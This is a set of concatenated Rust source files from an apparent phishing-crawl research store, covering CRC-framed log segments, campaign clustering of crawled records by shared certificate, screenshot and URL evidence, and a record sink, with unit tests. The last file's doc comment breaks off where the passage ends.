pub fn encode_frame(kind: u8, payload: &[u8]) -> Vec<u8> {
    assert!(payload.len() <= MAX_PAYLOAD_LEN as usize, "payload too large");
    let mut out = Vec::with_capacity(FRAME_HEADER_LEN + payload.len());
    out.push(kind);
    out.extend_from_slice(&(payload.len() as u32).to_le_bytes());
    out.extend_from_slice(&crc32(payload).to_le_bytes());
    out.extend_from_slice(payload);
    out
}

/// One step of a frame walk over a segment buffer.
#[derive(Debug, PartialEq, Eq)]
pub enum FrameStep<'a> {
    /// A complete, CRC-clean frame; the next frame starts at `next`.
    Frame {
        /// Frame kind byte.
        kind: u8,
        /// The payload slice.
        payload: &'a [u8],
        /// Offset of the next frame.
        next: usize,
    },
    /// Clean end of the buffer — `at` was exactly the buffer length.
    End,
    /// The bytes from `at` onward are not a valid frame: a torn tail after
    /// a crash, or corruption.
    Torn {
        /// Offset of the first bad byte.
        at: usize,
        /// Human-readable reason.
        reason: String,
    },
}

/// Decode the frame starting at offset `at` of `buf`.
pub fn next_frame(buf: &[u8], at: usize) -> FrameStep<'_> {
    if at == buf.len() {
        return FrameStep::End;
    }
    if at + FRAME_HEADER_LEN > buf.len() {
        return FrameStep::Torn {
            at,
            reason: format!("partial header ({} of {FRAME_HEADER_LEN} bytes)", buf.len() - at),
        };
    }
    let kind = buf[at];
    if kind != KIND_RECORD && kind != KIND_BLOB_REF {
        return FrameStep::Torn { at, reason: format!("unknown frame kind {kind:#x}") };
    }
    let len = u32::from_le_bytes(buf[at + 1..at + 5].try_into().expect("4 bytes"));
    if len > MAX_PAYLOAD_LEN {
        return FrameStep::Torn { at, reason: format!("implausible payload length {len}") };
    }
    let want = u32::from_le_bytes(buf[at + 5..at + 9].try_into().expect("4 bytes"));
    let start = at + FRAME_HEADER_LEN;
    let end = start + len as usize;
    if end > buf.len() {
        return FrameStep::Torn {
            at,
            reason: format!("payload truncated ({} of {len} bytes)", buf.len() - start),
        };
    }
    let payload = &buf[start..end];
    let got = crc32(payload);
    if got != want {
        return FrameStep::Torn {
            at,
            reason: format!("crc mismatch (stored {want:#010x}, computed {got:#010x})"),
        };
    }
    FrameStep::Frame { kind, payload, next: end }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn round_trips_multiple_frames() {
        let mut buf = encode_frame(KIND_RECORD, b"first");
        buf.extend_from_slice(&encode_frame(KIND_RECORD, b""));
        buf.extend_from_slice(&encode_frame(KIND_RECORD, b"third payload"));
        let mut at = 0;
        let mut seen = Vec::new();
        loop {
            match next_frame(&buf, at) {
                FrameStep::Frame { kind, payload, next } => {
                    assert_eq!(kind, KIND_RECORD);
                    seen.push(payload.to_vec());
                    at = next;
                }
                FrameStep::End => break,
                FrameStep::Torn { at, reason } => panic!("torn at {at}: {reason}"),
            }
        }
        assert_eq!(seen, vec![b"first".to_vec(), Vec::new(), b"third payload".to_vec()]);
    }

    #[test]
    fn every_truncation_point_reads_as_torn_tail() {
        let mut buf = encode_frame(KIND_RECORD, b"intact");
        let keep = buf.len();
        buf.extend_from_slice(&encode_frame(KIND_RECORD, b"torn away"));
        for cut in keep..buf.len() - 1 {
            let torn = &buf[..cut + 1];
            match next_frame(torn, 0) {
                FrameStep::Frame { next, .. } => {
                    assert_eq!(next, keep);
                    assert!(
                        matches!(next_frame(torn, next), FrameStep::Torn { at, .. } if at == keep),
                        "cut at {cut}: tail not detected"
                    );
                }
                other => panic!("cut at {cut}: first frame unreadable: {other:?}"),
            }
        }
    }

    #[test]
    fn blob_ref_payload_round_trips() {
        let hashes = vec![1u128, u128::MAX, 0xDEAD_BEEF_CAFE];
        let payload = encode_blob_refs(&hashes);
        assert_eq!(decode_blob_refs(&payload), Some(hashes));
        assert_eq!(decode_blob_refs(&[]), Some(Vec::new()));
        assert_eq!(decode_blob_refs(&[0u8; 15]), None, "partial hash is invalid");
        let frame = encode_frame(KIND_BLOB_REF, &payload);
        assert!(matches!(next_frame(&frame, 0), FrameStep::Frame { kind: KIND_BLOB_REF, .. }));
    }

    #[test]
    fn corrupt_payload_fails_crc() {
        let mut buf = encode_frame(KIND_RECORD, b"payload under test");
        let last = buf.len() - 1;
        buf[last] ^= 0x40;
        assert!(matches!(
            next_frame(&buf, 0),
            FrameStep::Torn { at: 0, ref reason } if reason.contains("crc mismatch")
        ));
    }

    #[test]
    fn unknown_kind_and_silly_length_are_torn() {
        let buf = encode_frame(0x7F, b"x");
        assert!(matches!(next_frame(&buf, 0), FrameStep::Torn { at: 0, .. }));
        let mut buf = vec![KIND_RECORD];
        buf.extend_from_slice(&u32::MAX.to_le_bytes());
        buf.extend_from_slice(&[0; 4]);
        assert!(matches!(next_frame(&buf, 0), FrameStep::Torn { at: 0, .. }));
    }
}
