//! Segment files: the append-only units of the record log.
//!
//! A shard's log is a directory of `seg-NNNNN.cbl` files, each a plain
//! concatenation of [frames](crate::frame). Writers only ever append to the
//! highest-numbered segment and roll to a fresh one once it passes the
//! configured target size; readers replay segments in index order. Only the
//! last segment can legitimately end in a torn tail (a crash mid-append) —
//! a bad frame anywhere else is corruption, which quarantines the shard.
//!
//! All I/O goes through the store's [`Vfs`](crate::vfs::Vfs) so the
//! crash-point sweep can drive it through
//! [`FaultVfs`](crate::vfs::FaultVfs).

use crate::vfs::{Vfs, VfsFile};
use std::path::{Path, PathBuf};
use std::sync::Arc;

/// File name of segment `index` (fixed-width so lexicographic order is
/// numeric order).
pub fn segment_file_name(index: u32) -> String {
    format!("seg-{index:05}.cbl")
}

/// Parse a segment file name back to its index.
pub fn parse_segment_name(name: &str) -> Option<u32> {
    let stem = name.strip_prefix("seg-")?.strip_suffix(".cbl")?;
    if stem.len() != 5 || !stem.bytes().all(|b| b.is_ascii_digit()) {
        return None;
    }
    stem.parse().ok()
}

/// Segment files under `dir`, sorted by index. Non-segment files are
/// ignored (editors, temp files).
pub fn list_segments(vfs: &dyn Vfs, dir: &Path) -> std::io::Result<Vec<(u32, PathBuf)>> {
    let mut out = Vec::new();
    for name in vfs.read_dir_names(dir)? {
        if let Some(index) = parse_segment_name(&name) {
            out.push((index, dir.join(name)));
        }
    }
    out.sort_by_key(|(i, _)| *i);
    Ok(out)
}

/// Appender over one segment file, writing through the store's VFS.
#[derive(Debug)]
pub struct SegmentWriter {
    file: Box<dyn VfsFile>,
    index: u32,
    bytes: u64,
}

impl SegmentWriter {
    /// Create segment `index` in `dir` (fails if it already exists — a
    /// writer never silently clobbers a segment).
    pub fn create(vfs: &Arc<dyn Vfs>, dir: &Path, index: u32) -> std::io::Result<SegmentWriter> {
        let file = vfs.create_new(&dir.join(segment_file_name(index)))?;
        Ok(SegmentWriter { file, index, bytes: 0 })
    }

    /// Reopen an existing segment for append; `bytes` is its current
    /// (post-recovery) length.
    pub fn open_append(
        vfs: &Arc<dyn Vfs>,
        path: &Path,
        index: u32,
        bytes: u64,
    ) -> std::io::Result<SegmentWriter> {
        let file = vfs.open_append(path)?;
        Ok(SegmentWriter { file, index, bytes })
    }

    /// Append one encoded frame; returns the frame's size in bytes.
    pub fn append(&mut self, frame: &[u8]) -> std::io::Result<u64> {
        self.file.write_all(frame)?;
        self.bytes += frame.len() as u64;
        Ok(frame.len() as u64)
    }

    /// Flush buffered frames to the OS.
    pub fn flush(&mut self) -> std::io::Result<()> {
        self.file.flush()
    }

    /// Flush and fsync — the durable-write barrier.
    pub fn sync(&mut self) -> std::io::Result<()> {
        self.file.sync()
    }

    /// This segment's index.
    pub fn index(&self) -> u32 {
        self.index
    }

    /// Bytes written to this segment so far (including pre-existing bytes
    /// when reopened).
    pub fn bytes(&self) -> u64 {
        self.bytes
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_round_trip_and_sort() {
        assert_eq!(segment_file_name(0), "seg-00000.cbl");
        assert_eq!(segment_file_name(42), "seg-00042.cbl");
        assert_eq!(parse_segment_name("seg-00042.cbl"), Some(42));
        assert_eq!(parse_segment_name("seg-42.cbl"), None);
        assert_eq!(parse_segment_name("seg-00042.tmp"), None);
        assert_eq!(parse_segment_name("blob-00042.cbl"), None);
        assert!(segment_file_name(9) < segment_file_name(10));
    }
}
