//! The campaign-forensics query layer: paper-style campaign clustering
//! over the stored log.
//!
//! The paper mines its ten-month record for campaign structure by linking
//! crawls that share evidence: identical screenshot perceptual hashes,
//! identical TLS certificate fingerprints, and URLs stamped from the same
//! token template. This module reproduces that as a union-find over the
//! [`StoreIndex`]'s metas — two records join the same campaign when they
//! co-occur on any of the three axes. Campaign ids are assigned in order
//! of each cluster's earliest log entry, so the clustering is
//! deterministic for a deterministic log.

use crate::index::StoreIndex;
use cb_phishgen::MessageClass;
use std::collections::{BTreeMap, BTreeSet, HashMap};

/// Disjoint-set forest with path halving and union by size.
struct UnionFind {
    parent: Vec<usize>,
    size: Vec<usize>,
}

impl UnionFind {
    fn new(n: usize) -> UnionFind {
        UnionFind { parent: (0..n).collect(), size: vec![1; n] }
    }

    fn find(&mut self, mut x: usize) -> usize {
        while self.parent[x] != x {
            self.parent[x] = self.parent[self.parent[x]];
            x = self.parent[x];
        }
        x
    }

    fn union(&mut self, a: usize, b: usize) {
        let (mut ra, mut rb) = (self.find(a), self.find(b));
        if ra == rb {
            return;
        }
        if self.size[ra] < self.size[rb] {
            std::mem::swap(&mut ra, &mut rb);
        }
        self.parent[rb] = ra;
        self.size[ra] += self.size[rb];
    }
}

/// One campaign cluster and its shared evidence.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Campaign {
    /// Campaign id (dense, ordered by earliest member's log position).
    pub id: usize,
    /// Log seqs of member records, ascending.
    pub seqs: Vec<usize>,
    /// Corpus message ids of members, in seq order.
    pub message_ids: Vec<usize>,
    /// Landing domains across members.
    pub domains: BTreeSet<String>,
    /// Certificate fingerprints across members.
    pub cert_fingerprints: BTreeSet<u64>,
    /// Screenshot perceptual hashes across members.
    pub phashes: BTreeSet<u64>,
    /// URL token schemes across members.
    pub url_schemes: BTreeSet<String>,
    /// Class histogram of members.
    pub classes: BTreeMap<MessageClass, usize>,
}

impl Campaign {
    /// Number of member records.
    pub fn len(&self) -> usize {
        self.seqs.len()
    }

    /// Whether the campaign has no members (never produced by
    /// [`cluster_campaigns`]).
    pub fn is_empty(&self) -> bool {
        self.seqs.is_empty()
    }
}

/// Cluster the log into campaigns by shared screenshot phash, certificate
/// fingerprint and URL token scheme.
///
/// Every record lands in exactly one cluster; records sharing no evidence
/// with anything else come back as singleton campaigns (filter on
/// [`Campaign::len`] for "real" campaigns).
pub fn cluster_campaigns(index: &StoreIndex) -> Vec<Campaign> {
    let metas = index.metas();
    let mut uf = UnionFind::new(metas.len());

    // Union every pair sharing an evidence key, via first-seen
    // representatives per key.
    let mut by_phash: HashMap<u64, usize> = HashMap::new();
    let mut by_cert: HashMap<u64, usize> = HashMap::new();
    let mut by_scheme: HashMap<&str, usize> = HashMap::new();
    for meta in metas {
        for &p in &meta.phashes {
            match by_phash.get(&p) {
                Some(&first) => uf.union(first, meta.seq),
                None => {
                    by_phash.insert(p, meta.seq);
                }
            }
        }
        for &fp in &meta.cert_fingerprints {
            match by_cert.get(&fp) {
                Some(&first) => uf.union(first, meta.seq),
                None => {
                    by_cert.insert(fp, meta.seq);
                }
            }
        }
        for scheme in &meta.url_schemes {
            match by_scheme.get(scheme.as_str()) {
                Some(&first) => uf.union(first, meta.seq),
                None => {
                    by_scheme.insert(scheme, meta.seq);
                }
            }
        }
    }

    // Group members under their root, keyed by the cluster's earliest seq
    // (BTreeMap gives ascending id assignment for free).
    let mut clusters: BTreeMap<usize, Vec<usize>> = BTreeMap::new();
    let mut min_of_root: HashMap<usize, usize> = HashMap::new();
    for seq in 0..metas.len() {
        let root = uf.find(seq);
        let entry = min_of_root.entry(root).or_insert(seq);
        *entry = (*entry).min(seq);
    }
    for seq in 0..metas.len() {
        let root = uf.find(seq);
        clusters.entry(min_of_root[&root]).or_default().push(seq);
    }

    clusters
        .into_values()
        .enumerate()
        .map(|(id, seqs)| {
            let mut campaign = Campaign {
                id,
                message_ids: seqs.iter().map(|&s| metas[s].message_id).collect(),
                seqs,
                domains: BTreeSet::new(),
                cert_fingerprints: BTreeSet::new(),
                phashes: BTreeSet::new(),
                url_schemes: BTreeSet::new(),
                classes: BTreeMap::new(),
            };
            for &seq in &campaign.seqs {
                let meta = &metas[seq];
                campaign.domains.extend(meta.domains.iter().cloned());
                campaign.cert_fingerprints.extend(meta.cert_fingerprints.iter().copied());
                campaign.phashes.extend(meta.phashes.iter().copied());
                campaign.url_schemes.extend(meta.url_schemes.iter().cloned());
                *campaign.classes.entry(meta.class).or_insert(0) += 1;
            }
            campaign
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::index::RecordMeta;
    use cb_phishgen::MessageClass;

    fn meta(seq: usize, phashes: &[u64], certs: &[u64], schemes: &[&str]) -> RecordMeta {
        RecordMeta {
            seq,
            message_id: seq,
            content_hash: seq as u128 + 1,
            class: MessageClass::ActivePhish,
            degraded: false,
            domains: vec![format!("d{seq}.example")],
            cert_fingerprints: certs.to_vec(),
            phashes: phashes.to_vec(),
            url_schemes: schemes.iter().map(|s| s.to_string()).collect(),
        }
    }

    /// Build an index holding exactly `metas` (via a private-but-testable
    /// route: re-deriving through insert would need full records, so the
    /// clustering is tested through a hand-rolled StoreIndex stand-in).
    fn cluster(metas: Vec<RecordMeta>) -> Vec<Campaign> {
        let mut index = StoreIndex::new();
        for m in metas {
            index.insert_meta_for_test(m);
        }
        cluster_campaigns(&index)
    }

    #[test]
    fn transitive_evidence_merges_clusters() {
        // 0 and 1 share a phash; 1 and 2 share a cert; 3 shares a URL
        // scheme with 4; 5 is alone.
        let campaigns = cluster(vec![
            meta(0, &[0xAA], &[], &[]),
            meta(1, &[0xAA], &[7], &[]),
            meta(2, &[], &[7], &[]),
            meta(3, &[], &[], &["a5/x16"]),
            meta(4, &[], &[], &["a5/x16"]),
            meta(5, &[0xBB], &[9], &["m9"]),
        ]);
        assert_eq!(campaigns.len(), 3);
        assert_eq!(campaigns[0].seqs, vec![0, 1, 2], "transitively linked");
        assert_eq!(campaigns[1].seqs, vec![3, 4]);
        assert_eq!(campaigns[2].seqs, vec![5], "singleton survives as its own cluster");
        assert_eq!(campaigns[0].id, 0);
        assert_eq!(campaigns[2].id, 2);
        assert_eq!(campaigns[0].phashes.len(), 1);
        assert_eq!(campaigns[0].cert_fingerprints.len(), 1);
        assert_eq!(campaigns[0].classes[&MessageClass::ActivePhish], 3);
    }

    #[test]
    fn empty_index_clusters_to_nothing() {
        assert!(cluster_campaigns(&StoreIndex::new()).is_empty());
    }
}
