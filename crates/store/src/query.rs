//! The campaign-forensics query layer: paper-style campaign clustering
//! over the stored log.
//!
//! The paper mines its ten-month record for campaign structure by linking
//! crawls that share evidence: identical screenshot perceptual hashes,
//! identical TLS certificate fingerprints, and URLs stamped from the same
//! token template. This module reproduces that as a union-find over
//! record metas — two records join the same campaign when they co-occur
//! on any of the three axes.
//!
//! With the store sharded by content hash, campaign members scatter
//! across shards (campaigns share *infrastructure*, not message bytes),
//! so the union-find is built incrementally: [`CampaignClusterer`] merges
//! one shard's index at a time, carrying the evidence-key
//! representatives across shards, and quarantined shards simply
//! contribute nothing. Campaign ids are assigned in order of each
//! cluster's earliest member (shard-major, then log order), so the
//! clustering is deterministic for a deterministic log.

use crate::index::{RecordMeta, StoreIndex};
use cb_phishgen::MessageClass;
use std::collections::{BTreeMap, BTreeSet, HashMap};

/// Disjoint-set forest with path halving and union by size, growable one
/// node at a time so shards can merge in incrementally.
struct UnionFind {
    parent: Vec<usize>,
    size: Vec<usize>,
}

impl UnionFind {
    fn new() -> UnionFind {
        UnionFind { parent: Vec::new(), size: Vec::new() }
    }

    /// Add a fresh singleton node; returns its id.
    fn push(&mut self) -> usize {
        let id = self.parent.len();
        self.parent.push(id);
        self.size.push(1);
        id
    }

    fn find(&mut self, mut x: usize) -> usize {
        while self.parent[x] != x {
            self.parent[x] = self.parent[self.parent[x]];
            x = self.parent[x];
        }
        x
    }

    fn union(&mut self, a: usize, b: usize) {
        let (mut ra, mut rb) = (self.find(a), self.find(b));
        if ra == rb {
            return;
        }
        if self.size[ra] < self.size[rb] {
            std::mem::swap(&mut ra, &mut rb);
        }
        self.parent[rb] = ra;
        self.size[ra] += self.size[rb];
    }

    fn len(&self) -> usize {
        self.parent.len()
    }
}

/// One campaign cluster and its shared evidence.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Campaign {
    /// Campaign id (dense, ordered by earliest member).
    pub id: usize,
    /// Member records as `(shard id, in-shard log seq)`, in merge order
    /// (shard-major, then ascending seq).
    pub members: Vec<(usize, usize)>,
    /// Corpus message ids of members, in member order.
    pub message_ids: Vec<usize>,
    /// Landing domains across members.
    pub domains: BTreeSet<String>,
    /// Certificate fingerprints across members.
    pub cert_fingerprints: BTreeSet<u64>,
    /// Screenshot perceptual hashes across members.
    pub phashes: BTreeSet<u64>,
    /// URL token schemes across members.
    pub url_schemes: BTreeSet<String>,
    /// Class histogram of members.
    pub classes: BTreeMap<MessageClass, usize>,
}

impl Campaign {
    /// Number of member records.
    pub fn len(&self) -> usize {
        self.members.len()
    }

    /// Whether the campaign has no members (never produced by the
    /// clusterer).
    pub fn is_empty(&self) -> bool {
        self.members.is_empty()
    }
}

/// Incremental cross-shard campaign clustering: feed each shard's metas
/// (or any stream of metas) with [`CampaignClusterer::add`], then
/// [`CampaignClusterer::finish`].
///
/// Evidence-key representatives persist across `add` calls, so a phash
/// seen in shard 0 links a shard 3 record added later — the union-find
/// merges incrementally instead of requiring one flat index.
#[derive(Default)]
pub struct CampaignClusterer {
    uf: UnionFind,
    /// `(shard, seq)` of each union-find node, in add order.
    members: Vec<(usize, usize)>,
    /// Cloned meta of each node (the aggregation source for `finish`).
    metas: Vec<RecordMeta>,
    by_phash: HashMap<u64, usize>,
    by_cert: HashMap<u64, usize>,
    by_scheme: HashMap<String, usize>,
}

impl Default for UnionFind {
    fn default() -> UnionFind {
        UnionFind::new()
    }
}

impl CampaignClusterer {
    /// An empty clusterer.
    pub fn new() -> CampaignClusterer {
        CampaignClusterer::default()
    }

    /// Merge one record's meta in, unioning it with the first-seen
    /// representative of every evidence key it carries.
    pub fn add(&mut self, shard: usize, meta: &RecordMeta) {
        let node = self.uf.push();
        self.members.push((shard, meta.seq));
        for &p in &meta.phashes {
            match self.by_phash.get(&p) {
                Some(&first) => self.uf.union(first, node),
                None => {
                    self.by_phash.insert(p, node);
                }
            }
        }
        for &fp in &meta.cert_fingerprints {
            match self.by_cert.get(&fp) {
                Some(&first) => self.uf.union(first, node),
                None => {
                    self.by_cert.insert(fp, node);
                }
            }
        }
        for scheme in &meta.url_schemes {
            match self.by_scheme.get(scheme.as_str()) {
                Some(&first) => self.uf.union(first, node),
                None => {
                    self.by_scheme.insert(scheme.clone(), node);
                }
            }
        }
        self.metas.push(meta.clone());
    }

    /// Merge a whole shard index in, in log order.
    pub fn add_index(&mut self, shard: usize, index: &StoreIndex) {
        for meta in index.metas() {
            self.add(shard, meta);
        }
    }

    /// Absorb another clusterer built independently (e.g. one shard's
    /// fragment clustered on a worker thread), renumbering its nodes onto
    /// the end of this one. The result is bit-identical to having fed the
    /// fragment's metas through [`add`](Self::add) directly: the output of
    /// [`finish`](Self::finish) depends only on the connected components
    /// and the node numbering, and absorbing preserves both — the
    /// fragment's internal components are replayed edge-free via its
    /// roots, and its first-seen evidence representatives union with this
    /// clusterer's (or become the global representative when the key is
    /// new, exactly as `add` would have picked them).
    pub fn absorb(&mut self, mut part: CampaignClusterer) {
        let offset = self.uf.len();
        let n = part.uf.len();
        for _ in 0..n {
            self.uf.push();
        }
        // Replay the fragment's components: linking every node to its
        // fragment-local root reproduces the same partition whatever the
        // fragment's internal union order was.
        for node in 0..n {
            let root = part.uf.find(node);
            if root != node {
                self.uf.union(root + offset, node + offset);
            }
        }
        // Merge evidence representatives. A key both sides know bridges
        // the fragment's component onto ours; a key only the fragment
        // knows makes its (shifted) first-seen node the global
        // representative — the same node `add` would have recorded.
        for (p, first) in part.by_phash.drain() {
            match self.by_phash.get(&p) {
                Some(&mine) => self.uf.union(mine, first + offset),
                None => {
                    self.by_phash.insert(p, first + offset);
                }
            }
        }
        for (fp, first) in part.by_cert.drain() {
            match self.by_cert.get(&fp) {
                Some(&mine) => self.uf.union(mine, first + offset),
                None => {
                    self.by_cert.insert(fp, first + offset);
                }
            }
        }
        for (scheme, first) in part.by_scheme.drain() {
            match self.by_scheme.get(scheme.as_str()) {
                Some(&mine) => self.uf.union(mine, first + offset),
                None => {
                    self.by_scheme.insert(scheme, first + offset);
                }
            }
        }
        self.members.append(&mut part.members);
        self.metas.append(&mut part.metas);
    }

    /// Records merged so far.
    pub fn len(&self) -> usize {
        self.uf.len()
    }

    /// Whether nothing has been merged.
    pub fn is_empty(&self) -> bool {
        self.uf.len() == 0
    }

    /// Resolve the clusters into [`Campaign`]s, ids assigned in order of
    /// each cluster's earliest member.
    pub fn finish(mut self) -> Vec<Campaign> {
        // Group members under their root, keyed by the cluster's earliest
        // node (BTreeMap gives ascending id assignment for free).
        let n = self.uf.len();
        let mut min_of_root: HashMap<usize, usize> = HashMap::new();
        for node in 0..n {
            let root = self.uf.find(node);
            let entry = min_of_root.entry(root).or_insert(node);
            *entry = (*entry).min(node);
        }
        let mut clusters: BTreeMap<usize, Vec<usize>> = BTreeMap::new();
        for node in 0..n {
            let root = self.uf.find(node);
            clusters.entry(min_of_root[&root]).or_default().push(node);
        }

        clusters
            .into_values()
            .enumerate()
            .map(|(id, nodes)| {
                let mut campaign = Campaign {
                    id,
                    members: nodes.iter().map(|&x| self.members[x]).collect(),
                    message_ids: nodes.iter().map(|&x| self.metas[x].message_id).collect(),
                    domains: BTreeSet::new(),
                    cert_fingerprints: BTreeSet::new(),
                    phashes: BTreeSet::new(),
                    url_schemes: BTreeSet::new(),
                    classes: BTreeMap::new(),
                };
                for &node in &nodes {
                    let meta = &self.metas[node];
                    campaign.domains.extend(meta.domains.iter().cloned());
                    campaign.cert_fingerprints.extend(meta.cert_fingerprints.iter().copied());
                    campaign.phashes.extend(meta.phashes.iter().copied());
                    campaign.url_schemes.extend(meta.url_schemes.iter().cloned());
                    *campaign.classes.entry(meta.class).or_insert(0) += 1;
                }
                campaign
            })
            .collect()
    }
}

/// Cluster a single flat index into campaigns (all members report shard
/// 0). The multi-shard path is [`Store::campaigns`](crate::Store::campaigns).
///
/// Every record lands in exactly one cluster; records sharing no evidence
/// with anything else come back as singleton campaigns (filter on
/// [`Campaign::len`] for "real" campaigns).
pub fn cluster_campaigns(index: &StoreIndex) -> Vec<Campaign> {
    let mut clusterer = CampaignClusterer::new();
    clusterer.add_index(0, index);
    clusterer.finish()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::index::RecordMeta;
    use cb_phishgen::MessageClass;

    fn meta(seq: usize, phashes: &[u64], certs: &[u64], schemes: &[&str]) -> RecordMeta {
        RecordMeta {
            seq,
            message_id: seq,
            content_hash: seq as u128 + 1,
            class: MessageClass::ActivePhish,
            degraded: false,
            domains: vec![format!("d{seq}.example")],
            cert_fingerprints: certs.to_vec(),
            phashes: phashes.to_vec(),
            url_schemes: schemes.iter().map(|s| s.to_string()).collect(),
        }
    }

    /// Build an index holding exactly `metas` (via a private-but-testable
    /// route: re-deriving through insert would need full records, so the
    /// clustering is tested through a hand-rolled StoreIndex stand-in).
    fn cluster(metas: Vec<RecordMeta>) -> Vec<Campaign> {
        let mut index = StoreIndex::new();
        for m in metas {
            index.insert_meta_for_test(m);
        }
        cluster_campaigns(&index)
    }

    #[test]
    fn transitive_evidence_merges_clusters() {
        // 0 and 1 share a phash; 1 and 2 share a cert; 3 shares a URL
        // scheme with 4; 5 is alone.
        let campaigns = cluster(vec![
            meta(0, &[0xAA], &[], &[]),
            meta(1, &[0xAA], &[7], &[]),
            meta(2, &[], &[7], &[]),
            meta(3, &[], &[], &["a5/x16"]),
            meta(4, &[], &[], &["a5/x16"]),
            meta(5, &[0xBB], &[9], &["m9"]),
        ]);
        assert_eq!(campaigns.len(), 3);
        assert_eq!(campaigns[0].members, vec![(0, 0), (0, 1), (0, 2)], "transitively linked");
        assert_eq!(campaigns[1].members, vec![(0, 3), (0, 4)]);
        assert_eq!(campaigns[2].members, vec![(0, 5)], "singleton survives as its own cluster");
        assert_eq!(campaigns[0].id, 0);
        assert_eq!(campaigns[2].id, 2);
        assert_eq!(campaigns[0].phashes.len(), 1);
        assert_eq!(campaigns[0].cert_fingerprints.len(), 1);
        assert_eq!(campaigns[0].classes[&MessageClass::ActivePhish], 3);
    }

    #[test]
    fn empty_index_clusters_to_nothing() {
        assert!(cluster_campaigns(&StoreIndex::new()).is_empty());
    }

    #[test]
    fn absorb_matches_serial_clustering() {
        // Cross-fragment links on all three evidence axes, plus a
        // fragment-internal component and singletons.
        let mut a = StoreIndex::new();
        a.insert_meta_for_test(meta(0, &[0xAA], &[], &[]));
        a.insert_meta_for_test(meta(1, &[0xAA], &[7], &[]));
        a.insert_meta_for_test(meta(2, &[], &[], &["a5/x16"]));
        let mut b = StoreIndex::new();
        b.insert_meta_for_test(meta(0, &[], &[7], &[]));
        b.insert_meta_for_test(meta(1, &[], &[], &["a5/x16"]));
        b.insert_meta_for_test(meta(2, &[0xDD], &[], &[]));

        let mut serial = CampaignClusterer::new();
        serial.add_index(0, &a);
        serial.add_index(1, &b);

        let mut merged = CampaignClusterer::new();
        let mut frag_a = CampaignClusterer::new();
        frag_a.add_index(0, &a);
        let mut frag_b = CampaignClusterer::new();
        frag_b.add_index(1, &b);
        merged.absorb(frag_a);
        merged.absorb(frag_b);

        assert_eq!(serial.finish(), merged.finish());
    }

    #[test]
    fn evidence_links_across_shards() {
        // Shard 0 seq 0 and shard 3 seq 1 share a cert; shard 1 seq 0 is
        // alone. The representative from the first add_index must survive
        // into the later one.
        let mut a = StoreIndex::new();
        a.insert_meta_for_test(meta(0, &[], &[42], &[]));
        let mut b = StoreIndex::new();
        b.insert_meta_for_test(meta(0, &[0xCC], &[], &[]));
        let mut c = StoreIndex::new();
        c.insert_meta_for_test(meta(0, &[], &[], &[]));
        c.insert_meta_for_test(meta(1, &[], &[42], &[]));

        let mut clusterer = CampaignClusterer::new();
        clusterer.add_index(0, &a);
        clusterer.add_index(1, &b);
        clusterer.add_index(3, &c);
        let campaigns = clusterer.finish();
        assert_eq!(campaigns.len(), 3);
        assert_eq!(
            campaigns[0].members,
            vec![(0, 0), (3, 1)],
            "cert 42 links shard 0 to shard 3"
        );
        assert_eq!(campaigns[1].members, vec![(1, 0)]);
        assert_eq!(campaigns[2].members, vec![(3, 0)]);
    }
}
