//! [`StoreSink`]: the [`RecordSink`] that plugs the store into
//! `scan_stream`'s order-preserving delivery path.
//!
//! `scan_stream` delivers records in message order on the calling thread,
//! so the sink appends to the log in a deterministic sequence — which is
//! exactly why the on-disk byte encoding is identical across schedulers.
//! `accept` cannot return errors, so the first I/O failure poisons the
//! sink (later records are dropped, not half-written) and surfaces from
//! [`StoreSink::finish`].

use crate::store::Store;
use crawlerbox::{RecordSink, ScanRecord};
use std::io;

/// Streams scan records into a [`Store`], forwarding each (with its
/// artifact bytes dropped — they now live in the blob store) to an inner
/// sink for in-memory aggregation.
#[derive(Debug)]
pub struct StoreSink<S = ()> {
    store: Store,
    inner: S,
    error: Option<io::Error>,
    appended: usize,
}

impl StoreSink<()> {
    /// A sink that only persists (no inner aggregation).
    pub fn new(store: Store) -> StoreSink<()> {
        StoreSink::with_inner(store, ())
    }
}

impl<S: RecordSink> StoreSink<S> {
    /// A sink that persists every record and forwards it to `inner`.
    pub fn with_inner(store: Store, inner: S) -> StoreSink<S> {
        StoreSink { store, inner, error: None, appended: 0 }
    }

    /// Records appended so far (excludes records dropped after poisoning).
    pub fn appended(&self) -> usize {
        self.appended
    }

    /// The first append error, if the sink is poisoned.
    pub fn error(&self) -> Option<&io::Error> {
        self.error.as_ref()
    }

    /// Borrow the underlying store (e.g. for mid-stream stats).
    pub fn store(&self) -> &Store {
        &self.store
    }

    /// Borrow the inner sink.
    pub fn inner(&self) -> &S {
        &self.inner
    }

    /// Sync the log durably and hand back the store and inner sink.
    ///
    /// # Errors
    ///
    /// The first append error when the sink was poisoned, or the final
    /// flush/fsync failure.
    pub fn finish(mut self) -> io::Result<(Store, S)> {
        if let Some(e) = self.error.take() {
            return Err(e);
        }
        self.store.sync()?;
        Ok((self.store, self.inner))
    }
}

impl<S: RecordSink> RecordSink for StoreSink<S> {
    fn accept(&mut self, mut record: ScanRecord) {
        if self.error.is_none() {
            match self.store.append(&record) {
                Ok(()) => self.appended += 1,
                Err(e) => self.error = Some(e),
            }
        }
        // The artifact bytes are persisted (or the sink is poisoned);
        // either way the inner sink must not retain them.
        record.artifacts = Vec::new();
        self.inner.accept(record);
    }
}
