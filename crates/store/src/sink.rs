//! [`StoreSink`] and [`EncodedStoreSink`]: the sinks that plug the store
//! into `scan_stream`'s order-preserving delivery path.
//!
//! `scan_stream` delivers records in message order on the calling thread,
//! so the sinks append to the log in a deterministic sequence — which is
//! exactly why the on-disk byte encoding is identical across schedulers.
//! `accept` cannot return errors, so the first I/O failure poisons the
//! sink (later records are dropped, not half-written) and surfaces from
//! `finish`. The drop count is reported via `dropped()` so runs can
//! surface it in their [`ScanStats`](crawlerbox::ScanStats).
//!
//! [`StoreSink`] is the owned-record **reference oracle**: it serializes
//! and frames each record on the delivery thread via
//! [`Store::append`]. [`EncodedStoreSink`] is the group-commit fast path:
//! paired with [`StoreEncoder`](crate::encoded::StoreEncoder) on
//! `scan_stream_encoded`, records arrive already encoded by the scan
//! workers, and the sink batches them into
//! [`Store::append_batch`] calls sized by the store's commit knobs —
